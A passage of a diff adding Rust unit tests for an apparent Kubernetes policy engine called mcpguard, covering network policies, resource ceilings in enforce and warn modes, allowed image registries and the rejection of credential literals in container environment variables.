+            })
+        ),
+        RenderError::PeerNotAllowed(
+            r#"network.egressTo peer {"ipBlock":{"cidr":"10.20.0.0/16"}} is not among the policy's spec.network.allowedExtraPeers"#.into()
+        )
+    );
+}
+
+#[test]
+fn network_disabled_renders_no_network_policy() {
+    let off = policy(&format!("{MUTATE}  network: {{enabled: false}}\n"));
+    let r = rendered(&off, &server(json!({"image": "ghcr.io/acme/mcp:1.0"})));
+    assert_eq!(r.network_policy, None);
+    let on = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert!(on.network_policy.is_some());
+}
+
+// ---------------------------------------------------------------------------------------
+// Denied templates
+
+fn ceiling_policy(mode: &str) -> Policy {
+    policy(&format!(
+        "{MUTATE}  validate:\n    maxResources: {{cpu: \"1\", memory: 1Gi}}\n  mode: {mode}\n"
+    ))
+}
+
+const CEILING_DENIAL: &str = r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "test": resources above policy ceiling (container "mcp" requests memory=2Gi above the ceiling 1Gi, container "mcp" limits memory=2Gi above the ceiling 1Gi)"#;
+
+fn too_big() -> Value {
+    json!({"image": "ghcr.io/acme/mcp:1.0", "resources": {"limits": {"memory": "2Gi"}}})
+}
+
+#[test]
+fn resources_above_the_policy_ceiling_are_denied() {
+    assert_eq!(
+        render_error(&ceiling_policy("enforce"), too_big()),
+        RenderError::Denied(CEILING_DENIAL.into())
+    );
+    let within = rendered(
+        &ceiling_policy("enforce"),
+        &server(
+            json!({"image": "ghcr.io/acme/mcp:1.0", "resources": {"limits": {"memory": "1Gi", "cpu": "1"}}}),
+        ),
+    );
+    assert_eq!(within.warnings, Vec::<String>::new());
+}
+
+#[test]
+fn in_warn_mode_the_same_server_renders_with_the_violation_as_a_warning() {
+    let r = rendered(&ceiling_policy("warn"), &server(too_big()));
+    let summary = CEILING_DENIAL
+        .strip_prefix(r#"the pods of MCPServer "x" would be rejected: "#)
+        .expect("prefix");
+    assert_eq!(r.warnings, vec![summary.to_owned()]);
+    assert_eq!(
+        container(&r)["resources"],
+        // Like a LimitRange default, the missing cpu limit becomes the ceiling; API defaulting
+        // then copies limits into the absent requests.
+        json!({"limits": {"cpu": "1", "memory": "2Gi"}, "requests": {"cpu": "1", "memory": "2Gi"}})
+    );
+    assert!(r.network_policy.is_some());
+    // namespaceModes does the same for one namespace.
+    let per_namespace = policy(&format!(
+        "{MUTATE}  validate:\n    maxResources: {{memory: 1Gi}}\n  namespaceModes: {{mcp: warn}}\n"
+    ));
+    let r = rendered(&per_namespace, &server(too_big()));
+    assert_eq!(
+        r.warnings,
+        vec![
+            r#"violates mcpguard policy "test": resources above policy ceiling (container "mcp" requests memory=2Gi above the ceiling 1Gi, container "mcp" limits memory=2Gi above the ceiling 1Gi)"#.to_owned()
+        ]
+    );
+}
+
+fn registry_policy() -> Policy {
+    policy(&format!(
+        "{MUTATE}  validate:\n    allowedRegistries: [ghcr.io/acme]\n"
+    ))
+}
+
+#[test]
+fn an_image_from_a_registry_the_policy_does_not_allow_is_denied() {
+    assert_eq!(
+        render_error(
+            &registry_policy(),
+            json!({"image": "docker.io/evil/mcp:1.0"})
+        ),
+        RenderError::Denied(
+            r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "test": image registry not allowed (container "mcp" must use images from ghcr.io/acme; got "docker.io/evil/mcp:1.0")"#.into()
+        )
+    );
+    // The package runtime image is judged like any other.
+    assert_eq!(
+        render_error(
+            &registry_policy(),
+            json!({"package": {"runtime": "npx", "name": "pkg"}})
+        ),
+        RenderError::Denied(
+            r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "test": image registry not allowed (container "mcp" must use images from ghcr.io/acme; got "docker.io/library/node:22-bookworm-slim")"#.into()
+        )
+    );
+    let allowed = rendered(
+        &registry_policy(),
+        &server(json!({"image": "ghcr.io/acme/mcp:1.0"})),
+    );
+    assert_eq!(container(&allowed)["image"], "ghcr.io/acme/mcp:1.0");
+}
+
+#[test]
+fn a_secret_literal_in_env_is_denied_and_a_secret_env_is_not() {
+    assert_eq!(
+        render_error(
+            &default_policy(),
+            json!({"image": "ghcr.io/acme/mcp:1.0", "env": [{"name": "GITHUB_TOKEN", "value": "ghp_x"}]})
+        ),
+        RenderError::Denied(
+            r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "mcp-restricted": secret literal in env (container "mcp" sets GITHUB_TOKEN (the name marks a credential) as literal value; use valueFrom.secretKeyRef)"#.into()
+        )
+    );
+    render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "secretEnv": [{"name": "GITHUB_TOKEN", "secretKeyRef": {"name": "github", "key": "token"}}],
+    }));
+}
